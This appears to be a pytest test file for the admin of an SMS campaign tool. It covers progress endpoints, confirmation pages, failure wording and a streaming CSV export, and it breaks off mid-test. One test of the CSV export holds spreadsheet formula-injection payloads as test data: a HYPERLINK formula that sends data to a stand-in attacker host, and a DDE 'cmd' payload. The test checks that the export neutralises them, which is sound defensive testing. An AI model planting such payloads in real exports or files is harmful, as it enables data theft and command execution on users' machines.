"""A campaign under way in the admin: the live progress endpoint, the confirmation pages of launch / pause / resume /
cancel, the CSV export, the delivery funnel and failures in plain words, and a contact's message history."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from django.contrib.messages import get_messages
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from campaigns import admin_views
from campaigns.models import NOT_SENT, Campaign
from campaigns.selectors import campaign_funnel, campaign_message_rows, campaign_progress, failure_words
from campaigns.services.editing import campaign_update
from campaigns.services.lifecycle import campaign_cancel, campaign_launch, campaign_pause, campaign_pause_on_trouble
from config.times import time_shown, zoned_time_shown
from contacts.models import ContactImport
from tests.factories import (
    CampaignFactory,
    ContactFactory,
    FrameFactory,
    MessageFactory,
    SegmentFactory,
    TagFactory,
    UnsubscriberFactory,
    UserFactory,
    admin_client_for,
    api_client_for,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def client():
    return admin_client_for()


def staff(*permissions):
    return admin_client_for(UserFactory(is_staff=True, permissions=list(permissions)))


def progress_url(campaign):
    return reverse("admin:campaigns_campaign_progress", args=[campaign.pk])


def action_url(campaign, action):
    return reverse("admin:campaigns_campaign_action", args=[campaign.pk, action])


@pytest.fixture
def sent():
    """A MOBtexting campaign part-way: delivered, in flight, suppressed, and failures with DLT codes."""
    campaign = CampaignFactory(state="sending", audience_size=10, cost_estimate="1.00")
    statuses = [("delivered", "", ""), ("delivered", "", ""), ("submitted", "", ""), ("pending", "", ""),
                ("suppressed", "", "unsubscribed"), ("rejected", "783", "Template variable exceeded 30 characters."),
                ("rejected", "783", "Template variable exceeded 30 characters."), ("undelivered", "013", "MOB-OFF")]  # fmt: skip
    for status, code, reason in statuses:
        taken = status not in ("pending", "suppressed")  # the provider took them; the failures are its reports
        MessageFactory(campaign=campaign, status=status, error_code=code, reason=reason,
                       submitted_at=timezone.now() if taken else None)  # fmt: skip
    counters = {}
    for status, _code, _reason in statuses:
        counters[status] = counters.get(status, 0) + 1
    Campaign.objects.filter(pk=campaign.pk).update(counters=counters)
    FrameFactory(campaign=campaign, state="pending", error="Connection refused", error_code="", attempts=2)
    campaign.refresh_from_db()
    return campaign


class TestProgress:
    def test_the_json_has_counters_funnel_and_failures_in_words(self, client, sent):
        body = client.get(progress_url(sent)).json()
        assert body["state"] == "sending" and body["live"] is True and body["finished"] is False
        groups = {
            "pending": 1,
            "sending": 0,
            "submitted": 1,
            "delivered": 2,
            "failed": 3,
            "not_sent": 0,
            "suppressed": 1,
        }
        assert body["groups"] == groups
        assert body["progress"] == 75.0  # 6 of 8 have a final status
        assert [(s["stage"], s["count"]) for s in body["funnel"]] == [
            ("audience", 8), ("reachable", 7), ("sent", 6), ("accepted", 4), ("delivered", 2),
        ]  # fmt: skip
        first = body["failures"][0]
        assert (first["status"], first["error_code"], first["count"]) == ("rejected", "783", 2)
        assert "30 characters" in first["words"]
        assert [f["address"] for f in body["recent_failures"]][:1] and body["recent_failures"][0]["words"]
        assert body["last_errors"][0]["error"] == "Connection refused"
        assert {item["status"] for item in body["breakdown"]} == {
            "delivered", "submitted", "pending", "suppressed", "rejected", "undelivered",
        }  # fmt: skip

    def test_the_endpoint_runs_a_fixed_number_of_queries(self, client, sent, django_assert_max_num_queries):
        with django_assert_max_num_queries(12) as few:
            client.get(progress_url(sent))
        for _ in range(20):
            MessageFactory(campaign=sent, status="failed", reason="cancelled before sending")
            FrameFactory(campaign=sent, error="Timeout")
        with django_assert_max_num_queries(len(few.captured_queries)):
            client.get(progress_url(sent))

    def test_anonymous_users_go_to_the_login_page_and_others_need_the_view_permission(self, sent):
        response = Client().get(progress_url(sent))
        assert response.status_code == 302 and "/admin/login/" in response["Location"]
        assert staff("campaigns.view_message").get(progress_url(sent)).status_code == 403
        assert staff("campaigns.view_campaign").get(progress_url(sent)).status_code == 200

    def test_the_page_of_a_sending_campaign_shows_progress_and_the_actions_of_its_state(self, client, sent):
        response = client.get(reverse("admin:campaigns_campaign_change", args=[sent.pk]))
        html = response.content.decode()
        assert 'id="campaign-progress"' in html and "herald/vendor/chart.umd.min.js" in html
        assert 'id="estimate-panel"' not in html, "no composer once it has started"
        shown = {a["name"] for a in response.context["campaign_actions"] if a["shown"]}
        assert shown == {"pause", "cancel", "duplicate"}
        assert 'name="_save"' not in html

    def test_the_latest_failures_come_from_the_end_of_the_campaigns_failure_index(self, client, sent):
        """Newest first, five: read backwards from the campaign's end of its failures' index, not by reading the
        primary key backwards through every newer message of the table (0.8 s with 700,000 newer ones)."""
        with connection.cursor() as cursor:  # newer messages of another campaign, which that backward read met
            cursor.execute(
                """INSERT INTO campaigns_message (campaign_id, account_id, address, status, channel)
                   SELECT %s, %s, '+9199000' || lpad(n::text, 5, '0'), 'delivered', 'sms' FROM generate_series(1, 5000) n""",
                [CampaignFactory(state="completed").pk, sent.account_id],
            )
            cursor.execute("ANALYZE campaigns_message")
        with CaptureQueriesContext(connection) as queries:
            body = client.get(progress_url(sent)).json()
        assert [f["status"] for f in body["recent_failures"]] == ["undelivered", "rejected", "rejected"]
        (latest,) = [q["sql"] for q in queries.captured_queries if "ORDER BY 1 DESC LIMIT 5" in q["sql"]]
        with connection.cursor() as cursor:
            cursor.execute("EXPLAIN " + latest)
            plan = "\n".join(row[0] for row in cursor.fetchall())
        assert "Index Scan Backward using message_campaign_failure_idx" in plan and "Sort" not in plan, plan


def test_a_windows_opening_is_said_in_its_zone_with_the_sites_beside_it_and_its_date_when_that_differs(settings):
    opening = datetime(2026, 11, 28, 9, 0, tzinfo=ZoneInfo("Asia/Kolkata"))
    assert zoned_time_shown(opening) == "2026-11-28 09:00 IST (03:30 UTC)"
    assert zoned_time_shown(opening.astimezone(UTC)) == "2026-11-28 03:30 UTC", "a window in the site's zone"
    reunion = datetime(2026, 11, 28, 12, 0, tzinfo=ZoneInfo("Indian/Reunion"))  # a zone without letters: "+04"
    assert zoned_time_shown(reunion) == "2026-11-28 12:00 UTC+04 (08:00 UTC)"
    settings.TIME_ZONE = "America/New_York"
    assert zoned_time_shown(opening) == "2026-11-28 09:00 IST (2026-11-27 22:30 EST)"


def test_failure_words_translate_dlt_codes_and_fall_back_to_the_status():
    assert "30 characters" in failure_words(kind="mobtexting", status="rejected", error_code="783")
    assert "not registered for this template" in failure_words(kind="mobtexting", status="rejected", error_code="789")
    assert "cancelled" in failure_words(kind="octopush", status="failed", reason="cancelled before sending")
    assert "operator could not deliver" in failure_words(kind="devino", status="undelivered", error_code="x")
    assert "a report that comes later corrects it" in failure_words(
        kind="devino", status="failed", error_code="outcome-unknown", reason="outcome unknown: no answer and no …"
    )


def test_the_funnel_never_goes_up():
    funnel = campaign_funnel(counters={"failed": 5, "suppressed": 2, "delivered": 1})
    counts = [stage["count"] for stage in funnel]
    assert counts == sorted(counts, reverse=True) and counts == [8, 6, 1, 1, 1]


def test_campaign_progress_of_a_draft_is_empty():
    body = campaign_progress(campaign=CampaignFactory())
    assert (body["total"], body["live"], body["funnel"][0]["count"], body["failures"]) == (0, False, 0, [])


class TestActions:
    def test_the_launch_page_states_audience_and_cost(self, client):
        news = TagFactory()
        ContactFactory.create_batch(3, tags=[news])
        campaign = CampaignFactory(tags=[news], account__kind="octopush", sender__country="FR", text="Hi")
        response = client.get(action_url(campaign, "launch"))
        html = response.content.decode()
        assert response.context["estimate"]["sendable"] == 3
        assert '<strong class="confirm-audience">3</strong>' in html
        assert '<strong class="confirm-cost">0.30 EUR</strong>' in html
        assert "herald-confirm-button" in html

    def test_costs_are_written_with_thousands_separators_on_the_confirmation_pages_and_the_campaigns_page(self, client):
        """ "9272.50 EUR" beside counts written "3,746"; the record said "12345.6000", without its currency."""
        news = TagFactory()
        ContactFactory.create_batch(2, tags=[news])
        costly = {"tags": [news], "account__kind": "octopush", "account__price_per_part": "4636.25",
                  "sender__country": "FR", "text": "Hi"}  # fmt: skip
        draft = CampaignFactory(**costly)
        scheduled = CampaignFactory(**costly, state="scheduled", send_at=timezone.now() + timedelta(days=1))
        for campaign, action in [(draft, "launch"), (scheduled, "send-now")]:
            html = client.get(action_url(campaign, action)).content.decode()
            assert '<strong class="confirm-cost">9,272.50 EUR</strong>' in html, action

        sending = CampaignFactory(
            state="sending", account__kind="octopush", cost_estimate="12345.6", cost_actual="9272.5"
        )
        html = client.get(action_url(sending, "pause")).content.decode()
        assert (
            '<strong class="confirm-cost">9,272.50 EUR</strong> so far <span class="help">of 12,345.60 EUR estimated'
            in html
        )
        page = client.get(reverse("admin:campaigns_campaign_change", args=[sending.pk])).content.decode()
        assert '<span data-progress="cost_actual">9,272.50</span>' in page, "the progress panel"
        assert '<span data-progress="cost_estimate">12,345.60</span>' in page
        for label, shown in [("Cost estimate", "12,345.60 EUR"), ("Cost actual", "9,272.50 EUR")]:
            assert re.search(rf"<label[^>]*>{label}:</label>\s*<div class=\"readonly\">{shown}</div>", page), label
        page = client.get(reverse("admin:campaigns_campaign_change", args=[draft.pk])).content.decode()
        assert re.search(r"<label>Cost estimate:</label>\s*<div class=\"readonly\">–</div>", page), "none yet"

    def test_the_launch_page_says_why_members_are_suppressed_with_each_reason_counted(self, client):
        # It read "3 suppressed: 2 inactive contact, 1 unsubscribed": a count before a reason worded as a label, the
        # reasons in no set order. Now the largest first.
        news = TagFactory()
        ContactFactory.create_batch(2, tags=[news])
        UnsubscriberFactory(address=ContactFactory(tags=[news]).phone)
        ContactFactory.create_batch(2, tags=[news], is_active=False)
        campaign = CampaignFactory(tags=[news], account__kind="octopush", sender__country="FR", text="Hi")
        html = client.get(action_url(campaign, "launch")).content.decode()
        assert "of 5 selected; 3 suppressed\n      (inactive contact: 2, unsubscribed: 1)</span>" in html

    def test_the_launch_page_says_when_it_sends_its_times_in_the_sites_zone_named(self, client):
        # A send time already past means now. "At Nov. 27, 2026, 10 a.m." stood beside "Deferred to 2026-11-27
        # 03:30 UTC": two formats, one without its zone.
        news = TagFactory()
        ContactFactory(tags=[news])
        day = timezone.localdate() + timedelta(days=2)
        at = timezone.make_aware(timezone.datetime(day.year, day.month, day.day, 10, 0))
        past = at - timedelta(days=4)
        for send_at, recurrence, said in [
            (at, "", f"At {day:%Y-%m-%d} 10:00 UTC"),
            (at, "daily", f"Daily, from {day:%Y-%m-%d} 10:00 UTC."),
            (past, "", f"Now: its send time has passed ({past:%Y-%m-%d} 10:00 UTC)"),
            (None, "", "Now"),
        ]:
            campaign = CampaignFactory(tags=[news], account__kind="octopush", sender__country="FR", text="Hi",
                                       send_at=send_at, recurrence=recurrence)  # fmt: skip
            html = client.get(action_url(campaign, "launch")).content.decode()
            assert f"<dt>When</dt><dd>{said}" in html, said

    def test_the_launch_page_says_when_a_promotional_send_is_deferred_to_in_words(self, client):
        # It read "Deferred to 2026-11-27T03:30:00+00:00": the ISO string of the estimate's JSON. A campaign with a
        # send time is launched then, and its messages wait from then for the hours: it read "Deferred to" alone, and
        # the message after the launch "is scheduled for" its send time.
        news = TagFactory()
        ContactFactory(tags=[news])
        day = timezone.localdate() + timedelta(days=1)
        at_night = timezone.make_aware(timezone.datetime(day.year, day.month, day.day, 20, 0))  # 01:30 in India
        for recurrence, said in [
            ("", f"At {at_night:%Y-%m-%d %H:%M} UTC, outside the promotional hours: it then waits until"),
            ("daily", "the first run is deferred to"),
        ]:
            campaign = CampaignFactory(tags=[news], account__kind="mobtexting", purpose="promotional", text="Sale",
                                       send_at=at_night, recurrence=recurrence)  # fmt: skip
            html = client.get(action_url(campaign, "launch")).content.decode()
            assert f"{said} {day + timedelta(days=1):%Y-%m-%d} 09:00 IST (03:30 UTC)" in html, recurrence

    def test_a_launch_with_problems_lists_them_and_offers_no_button(self, client):
        campaign = CampaignFactory(text="")
        html = client.get(action_url(campaign, "launch")).content.decode()
        assert "<h2>Before you can launch</h2>" in html and "herald-confirm-button" not in html

    def test_posting_launch_calls_the_service_and_reports_its_refusal(self, client, django_capture_on_commit_callbacks, broker_queue):  # fmt: skip
        news = TagFactory()
        ContactFactory(tags=[news])
        campaign = CampaignFactory(tags=[news], account__kind="octopush", sender__country="FR", text="Hi")
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(action_url(campaign, "launch"))
        assert response["Location"] == reverse("admin:campaigns_campaign_change", args=[campaign.pk])
        campaign.refresh_from_db()
        assert campaign.state == "preparing"
        assert broker_queue() == [("campaigns.tasks.campaign_prepare_task", [campaign.pk])]
        response = client.post(action_url(campaign, "launch"))
        assert [str(m) for m in get_messages(response.wsgi_request)][-1] == "A preparing campaign cannot be launched."

    def test_launching_a_campaign_with_a_send_time_says_when_it_is_sent_once(self, client):
        """It read "“Spring” is scheduled. Scheduled for …"."""
        news = TagFactory()
        ContactFactory(tags=[news])
        send_at = timezone.now() + timedelta(days=1)
        campaign = CampaignFactory(tags=[news], account__kind="octopush", sender__country="FR", text="Hi",
                                   send_at=send_at)  # fmt: skip
        response = client.post(action_url(campaign, "launch"))
        said = [str(m) for m in get_messages(response.wsgi_request)]
        assert said == [f"“{campaign.name}” is scheduled for {time_shown(send_at)}."]
        campaign.refresh_from_db()
        assert campaign.state_reason == f"Scheduled for {time_shown(send_at)}.", "the campaign's page says it so"

    def test_a_scheduled_campaign_offers_send_now_and_unschedule_not_a_launch_that_saves_its_schedule_again(
        self, client
    ):
        """Its "Launch…" confirmed saved the same schedule again: sending it now took clearing its send time."""
        news = TagFactory()
        ContactFactory.create_batch(2, tags=[news])
        send_at = timezone.now() + timedelta(days=1)
        campaign = CampaignFactory(tags=[news], account__kind="octopush", sender__country="FR", text="Hi",
                                   state="scheduled", send_at=send_at, state_reason=f"Scheduled for {time_shown(send_at)}.")  # fmt: skip
        page = client.get(reverse("admin:campaigns_campaign_change", args=[campaign.pk]))
        html = page.content.decode()
        shown = {a["name"] for a in page.context["campaign_actions"] if a["shown"]}
        assert shown == {"send-now", "unschedule", "cancel", "duplicate"}
        assert f'href="{action_url(campaign, "send-now")}" class="herald-action-send-now">Send now…</a>' in html
        assert 'name="_saveandlaunch"' not in html, "saved, it stays scheduled: nothing to launch"
        assert "herald-confirm-button" not in client.get(action_url(campaign, "launch")).content.decode()

        confirm = client.get(action_url(campaign, "send-now")).content.decode()
        assert "<dt>When</dt><dd>Now</dd>" in confirm and '<strong class="confirm-audience">2</strong>' in confirm
        assert 'value="Yes, send it now" class="default herald-confirm-button"' in confirm
        response = client.post(action_url(campaign, "send-now"))
        assert [str(m) for m in get_messages(response.wsgi_request)] == [f"“{campaign.name}” is launched now."]
        campaign.refresh_from_db()
        assert (campaign.state, campaign.send_at) == ("preparing", None) and campaign.launched_at is not None

    def test_unscheduling_takes_a_campaign_back_to_draft_with_its_send_time_and_offers_to_launch_it(self, client):
        send_at = timezone.now() + timedelta(days=1)
        campaign = CampaignFactory(state="scheduled", send_at=send_at, state_reason="Scheduled for tomorrow.")
        confirm = client.get(action_url(campaign, "unschedule")).content.decode()
        assert 'value="Yes, unschedule it" class="default herald-confirm-button"' in confirm
        response = client.post(action_url(campaign, "unschedule"))
        assert [str(m) for m in get_messages(response.wsgi_request)] == [f"“{campaign.name}” is unscheduled."]
        campaign.refresh_from_db()
        assert (campaign.state, campaign.send_at) == ("draft", send_at)
        page = client.get(reverse("admin:campaigns_campaign_change", args=[campaign.pk]))
        assert {a["name"] for a in page.context["campaign_actions"] if a["shown"]} == {"launch", "cancel", "duplicate"}
        assert "Unscheduled by a user: nothing is sent until you launch it." in page.content.decode()
        response = client.post(action_url(campaign, "unschedule"))
        assert [str(m) for m in get_messages(response.wsgi_request)][-1] == "A draft campaign cannot be unscheduled."

    def test_sending_now_is_refused_as_the_launch_refuses_it_and_the_schedule_is_kept(self, client):
        send_at = timezone.now() + timedelta(days=1)
        campaign = CampaignFactory(state="scheduled", send_at=send_at, text="")
        html = client.get(action_url(campaign, "send-now")).content.decode()
        # Its problems are headed by the action it confirms: "Before you can launch" said so of one launched already.
        assert "<h2>Before you can send it now</h2>" in html and "Before you can launch" not in html
        assert "herald-confirm-button" not in html
        client.post(action_url(campaign, "send-now"))
        campaign.refresh_from_db()
        assert (campaign.state, campaign.send_at) == ("scheduled", send_at)

    def test_sending_now_outside_the_promotional_hours_names_the_same_time_on_its_page_and_after(self, client):
        """Its page said "Deferred to … 03:30 UTC", the message once sent "Deferred to … 09:00 IST": one time, said
        two ways. Both now say it in the window's zone with the site's beside it."""
        news = TagFactory()
        ContactFactory(tags=[news])
        day = timezone.now().astimezone(ZoneInfo("Asia/Kolkata")).date() + timedelta(days=2)
        window = {"start": "09:00", "end": "21:00", "tz": "Asia/Kolkata", "days": [day.weekday()]}  # closed till then
        campaign = CampaignFactory(
            tags=[news], account__kind="octopush", account__options={"promo_window": window}, sender__country="FR",
            purpose="promotional", text="Sale today! STOP au 30101", state="scheduled",
            send_at=timezone.now() + timedelta(days=5),
        )  # fmt: skip
        said = f"Deferred to {day:%Y-%m-%d} 09:00 IST (03:30 UTC): promotional messages only inside the allowed hours."
        confirm = client.get(action_url(campaign, "send-now")).content.decode()
        assert f"<dt>When</dt><dd>{said}</dd>" in confirm
        response = client.post(action_url(campaign, "send-now"))
        assert [str(m) for m in get_messages(response.wsgi_request)] == [f"“{campaign.name}” is scheduled. {said}"]
        campaign.refresh_from_db()
        assert (campaign.state, campaign.state_reason) == ("scheduled", said)

    def test_the_send_now_page_of_a_deferred_campaign_says_what_it_waits_for_once(self, client):
        """A promotional campaign deferred to the window's opening: its send-now page said "Deferred to … 09:00 IST
        (03:30 UTC): promotional messages only inside the allowed hours." in its state line and again under When."""
        news = TagFactory()
        ContactFactory(tags=[news])
        day = timezone.now().astimezone(ZoneInfo("Asia/Kolkata")).date() + timedelta(days=2)
        window = {"start": "09:00", "end": "21:00", "tz": "Asia/Kolkata", "days": [day.weekday()]}
        said = f"Deferred to {day:%Y-%m-%d} 09:00 IST (03:30 UTC): promotional messages only inside the allowed hours."
        campaign = CampaignFactory(
            tags=[news], account__kind="octopush", account__options={"promo_window": window}, sender__country="FR",
            purpose="promotional", text="Sale today! STOP au 30101", state="scheduled", state_reason=said,
            send_at=timezone.make_aware(timezone.datetime(day.year, day.month, day.day, 3, 30)),
        )  # fmt: skip
        confirm = client.get(action_url(campaign, "send-now")).content.decode()
        assert confirm.count(said) == 1
        assert f'data-progress="state_reason_shown">{said}</span>' in confirm
        assert (
            "<dt>When</dt><dd>No sooner: it already waits for the promotional hours to open, as said above.</dd>"
            in (confirm)
        )

    def test_a_recurring_campaign_is_not_offered_send_now(self, client):
        send_at = timezone.now() + timedelta(days=1)
        campaign = CampaignFactory(state="scheduled", send_at=send_at, recurrence="daily")
        page = client.get(reverse("admin:campaigns_campaign_change", args=[campaign.pk]))
        assert {a["name"] for a in page.context["campaign_actions"] if a["shown"]} == {
            "unschedule",
            "cancel",
            "duplicate",
        }
        confirm = client.get(action_url(campaign, "send-now")).content.decode()  # its page, reached by its URL
        assert '<p class="errornote">A recurring campaign sends a run at each of its send times' in confirm
        assert "herald-confirm-button" not in confirm, "a button that could only be refused"
        assert "starts sending now" not in confirm
        response = client.post(action_url(campaign, "send-now"))
        assert "A recurring campaign sends a run at each of its send times" in str(
            list(get_messages(response.wsgi_request))[-1]
        )
        campaign.refresh_from_db()
        assert (campaign.state, campaign.send_at) == ("scheduled", send_at)

    @pytest.mark.parametrize(
        ("state", "refusal"),
        [
            ("draft", "A draft campaign cannot be sent now: launch it."),
            ("completed", "A completed campaign cannot be sent now."),
        ],
    )
    def test_send_now_on_a_campaign_that_is_not_scheduled_says_why_and_shows_no_figures(self, client, state, refusal):
        """A draft's page said it "cannot be launched now" over a progress block of 0 messages; a completed one was
        told to launch it, which it cannot be."""
        campaign = CampaignFactory(state=state)
        confirm = client.get(action_url(campaign, "send-now")).content.decode()
        assert f'<p class="errornote">{refusal}</p>' in confirm
        assert "confirm-audience" not in confirm and "herald-confirm-button" not in confirm

    @pytest.mark.parametrize(
        ("state", "action", "after"), [("sending", "pause", "paused"), ("sending", "cancel", "cancelled")]
    )
    def test_pause_and_cancel(self, client, state, action, after):
        campaign = CampaignFactory(state=state, counters={"pending": 4, "delivered": 1}, audience_size=5)
        page = client.get(action_url(campaign, action))
        assert '<strong class="confirm-audience">5</strong>' in page.content.decode()
        client.post(action_url(campaign, action))
        campaign.refresh_from_db()
        assert campaign.state == after

    def test_resume(self, client, django_capture_on_commit_callbacks, broker_queue, settings):
        settings.DISPATCHERS_PER_CAMPAIGN = 2
        campaign = CampaignFactory(state="paused", audience_size=5, counters={"pending": 5})
        with django_capture_on_commit_callbacks(execute=True):
            client.post(action_url(campaign, "resume"))
        campaign.refresh_from_db()
        assert campaign.state == "sending"
        dispatchers = [("campaigns.tasks.campaign_dispatch_task", [campaign.pk, slot]) for slot in (0, 1)]
        assert broker_queue() == dispatchers

    def test_the_resume_page_of_a_campaign_whose_prepare_failed_says_why_and_that_it_prepares_again(self, client):
        reason = (
            "Preparing stopped (OperationalError: the server closed the connection). Resume to try again, or cancel."
        )
        campaign = CampaignFactory(state="paused", state_reason=reason)
        html = client.get(action_url(campaign, "resume")).content.decode()
        assert state_line(html) == f"paused {reason}"
        assert "Herald prepares the audience (recipients already written are kept, never doubled), then sends." in html
        assert "Sending continues where it stopped." not in html
        prepared = CampaignFactory(state="paused", audience_size=5, counters={"pending": 5})
        assert "Sending continues where it stopped." in client.get(action_url(prepared, "resume")).content.decode()

    def test_actions_need_the_change_permission_and_a_post(self):
        campaign = CampaignFactory(state="sending")
        viewer = staff("campaigns.view_campaign")
        assert viewer.get(action_url(campaign, "pause")).status_code == 403
        assert viewer.post(action_url(campaign, "pause")).status_code == 403
        campaign.refresh_from_db()
        assert campaign.state == "sending"
        response = Client().post(action_url(campaign, "pause"))
        assert response.status_code == 302 and "/admin/login/" in response["Location"]


def state_line(html: str) -> str:
    """The words of a page's state line (the campaign's page, its progress panel, a confirmation page), tags left out."""
    line = re.search(r'<p class="herald-state-(?:line|reason)"[^>]*>(.*?)</p>', html, re.S).group(1)
    return " ".join(re.sub(r"<[^>]+>", " ", line).split())


def test_a_campaigns_state_is_said_once_before_its_reason(client):
    """The badge and then a reason that said it again: "scheduled Scheduled for …", "paused Paused by a user."."""
    news = TagFactory()
    ContactFactory(tags=[news])
    send_at = timezone.now() + timedelta(days=1)
    scheduled = CampaignFactory(tags=[news], account__kind="octopush", sender__country="FR", text="Hi", send_at=send_at)
    campaign_launch(campaign_id=scheduled.pk)
    paused = CampaignFactory(state="sending", audience_size=1, counters={"pending": 1})
    campaign_pause(campaign_id=paused.pk)
    trouble = CampaignFactory(state="sending", audience_size=1, counters={"pending": 1})
    campaign_pause_on_trouble(campaign_id=trouble.pk, reason="Paused: the provider account needs attention (401).")
    cancelled = CampaignFactory()
    campaign_cancel(campaign_id=cancelled.pk)
    unscheduled = CampaignFactory(state="scheduled", send_at=send_at)
    campaign_update(campaign=unscheduled, data={"send_at": None})

    def page(campaign):
        return state_line(client.get(reverse("admin:campaigns_campaign_change", args=[campaign.pk])).content.decode())

    assert page(scheduled) == f"scheduled for {time_shown(send_at)}."
    assert page(paused) == "paused by a user."
    assert page(trouble) == "paused The provider account needs attention (401)."
    assert page(cancelled) == "cancelled by a user."
    assert page(unscheduled) == "draft Its send time was cleared: launch it to send it now."
    assert page(CampaignFactory()) == "draft Nothing is sent until you launch it."
    assert page(CampaignFactory(state="failed", state_reason="Could not launch at its scheduled time: x.")) == (
        "failed Could not launch at its scheduled time: x."
    )
    assert state_line(client.get(action_url(scheduled, "send-now")).content.decode()) == (
        f"scheduled for {time_shown(send_at)}."
    )
    assert state_line(client.get(action_url(paused, "resume")).content.decode()) == "paused by a user."
    # The progress panel refreshes it from the endpoint; the reason stays whole where it stands alone (the API).
    body = client.get(progress_url(paused)).json()
    assert (body["state_reason_shown"], body["state_reason"]) == ("by a user.", "Paused by a user.")
    api = api_client_for(UserFactory(superuser=True))
    assert api.get(f"/api/v1/campaigns/{scheduled.pk}/").json()["state_reason"] == (
        f"Scheduled for {time_shown(send_at)}."
    )


class TestExport:
    def test_the_csv_streams_every_message_with_what_its_failure_means(self, client, sent):
        response = client.get(reverse("admin:campaigns_campaign_export", args=[sent.pk]))
        assert isinstance(response, StreamingHttpResponse)
        assert response["Content-Type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert len(rows) == 8
        rejected = [row for row in rows if row["error_code"] == "783"]
        assert rejected and "30 characters" in rejected[0]["meaning"]
        assert rows[0]["status"] == "delivered" and rows[0]["meaning"] == ""

    def test_times_are_written_in_utc_to_the_microsecond(self, client):
        """The same width on every row (a whole second too), whatever zone the time was recorded in."""
        campaign = CampaignFactory(state="sending")
        india = timezone.get_fixed_timezone(330)
        MessageFactory(
            campaign=campaign,
            status="delivered",
            submitted_at=datetime(2026, 1, 2, 9, 30, tzinfo=india),
            final_at=datetime(2026, 1, 2, 9, 30, 5, 250, tzinfo=india),
        )
        response = client.get(reverse("admin:campaigns_campaign_export", args=[campaign.pk]))
        [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert (row["submitted_at"], row["final_at"]) == (
            "2026-01-02 04:00:00.000000+00:00",
            "2026-01-02 04:00:05.000250+00:00",
        )
        message = campaign.messages.get()
        assert row["created_at"] == message.created_at.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.%f+00:00")
        assert row["external_ref"] == str(message.external_ref) and len(row["external_ref"]) == 36

    def test_the_file_comes_in_pieces_of_many_rows(self, client, sent, monkeypatch):
        """Streamed a few hundred rows at a time: neither the whole file in memory nor one write a row."""
        monkeypatch.setattr(admin_views, "EXPORT_ROWS_A_PIECE", 3)
        response = client.get(reverse("admin:campaigns_campaign_export", args=[sent.pk]))
        pieces = [piece.decode() for piece in response.streaming_content]
        assert [piece.count("\r\n") for piece in pieces] == [4, 3, 2]  # the header and 3 rows, 3 rows, the last 2
        rows = list(csv.DictReader(io.StringIO("".join(pieces))))
        assert [int(row["id"]) for row in rows] == sorted(sent.messages.values_list("id", flat=True))

    def test_the_csv_never_holds_a_formula_a_spreadsheet_would_run(self, client):
        """A text that starts with a contact's name, a vendor's error words: shown as text in Excel, never run. A
        number in E.164 (+91…) is data and stays as it is."""
        campaign = CampaignFactory(state="sending")
        MessageFactory(
            campaign=campaign,
            contact=ContactFactory(phone="+919812345678"),
            text='=HYPERLINK("http://evil.example/?"&A2,"Open"), your order has shipped',
            status="rejected",
            error_code="@SUM(1)",
            reason="-2+3 vendor said no",
            provider_message_id="+cmd|' /C calc'!A0",
        )
        response = client.get(reverse("admin:campaigns_campaign_export", args=[campaign.pk]))
        [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert row["text"] == '\'=HYPERLINK("http://evil.example/?"&A2,"Open"), your order has shipped'
        assert (row["error_code"], row["reason"]) == ("'@SUM(1)", "'-2+3 vendor said no")
        assert row["provider_message_id"] == "'+cmd|' /C calc'!A0"
        assert row["address"] == "+919812345678"

    def test_the_rows_come_from_a_server_side_cursor(self, sent, django_assert_num_queries):
        rows = campaign_message_rows(campaign=sent, chunk_size=3)
        with django_assert_num_queries(2):  # the account's kind, then one cursor fetched 3 rows at a time
            assert len(list(rows)) == 8

    def test_the_export_needs_the_message_view_permission(self, sent):
        url = reverse("admin:campaigns_campaign_export", args=[sent.pk])
        assert staff("campaigns.view_campaign").get(url).status_code == 403
        assert staff("campaigns.view_campaign", "campaigns.view_message").get(url).status_code == 200
        assert staff("campaigns.view_campaign").get(url, {"status": "rejected"}).status_code == 403

    def test_the_export_of_some_statuses_has_only_their_messages(self, client, sent):
        """Only the failed ones, to work on them: the statuses as the message list's filter shows them."""
        url = reverse("admin:campaigns_campaign_export", args=[sent.pk])
        response = client.get(url, {"status": "rejected"})
        assert isinstance(response, StreamingHttpResponse)
        assert f'filename="campaign-{sent.pk}-messages-rejected.csv"' in response["Content-Disposition"]
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert [row["status"] for row in rows] == ["rejected", "rejected"]
        failed = client.get(url + "?status=rejected&status=undelivered&status=expired&status=failed")
        rows = list(csv.DictReader(io.StringIO(b"".join(failed.streaming_content).decode())))
        assert sorted(row["status"] for row in rows) == ["rejected", "rejected", "undelivered"]
        assert all(row["meaning"] for row in rows)

    def test_an_unknown_status_is_refused_naming_the_parameter(self, client, sent):
        response = client.get(reverse("admin:campaigns_campaign_export", args=[sent.pk]), {"status": "lost"})
        assert response.status_code == 400
        assert response.content.decode().startswith("status: 'lost' is not a message status; choose from pending,")

    def test_the_rows_of_some_statuses_come_from_the_same_one_cursor(self, sent, django_assert_num_queries):
        rows = campaign_message_rows(campaign=sent, statuses=["rejected", "undelivered"], chunk_size=2)
        with django_assert_num_queries(2):  # the account's kind, then one cursor fetched 2 rows at a time
            assert len(list(rows)) == 3

    def test_a_campaigns_page_offers_its_failed_messages(self, client, sent):
        html = client.get(reverse("admin:campaigns_campaign_change", args=[sent.pk])).content.decode()
        export = reverse("admin:campaigns_campaign_export", args=[sent.pk])
        failed = (
            f"{export}?status=rejected&amp;status=undelivered&amp;status=expired&amp;status=failed&amp;not_sent=exclude"
        )
        assert (
            f'<a href="{failed}" class="herald-export-failed" title="The messages the progress panel counts as failed; '
            in html
        )
        assert '<li class="herald-export-failed-item">' in html, "shown: three of its messages failed"

    def test_the_failed_export_of_a_cancelled_campaign_holds_what_its_panel_counts_as_failed(self, client):
        """Cancelled with 2 failed and 3 closed unsent, its failed export held 5 rows: the panel's "Not sent" too."""
        campaign = CampaignFactory(state="cancelled", account__kind="mobtexting", not_sent=3,
                                   counters={"delivered": 1, "rejected": 1, "failed": 4})  # fmt: skip
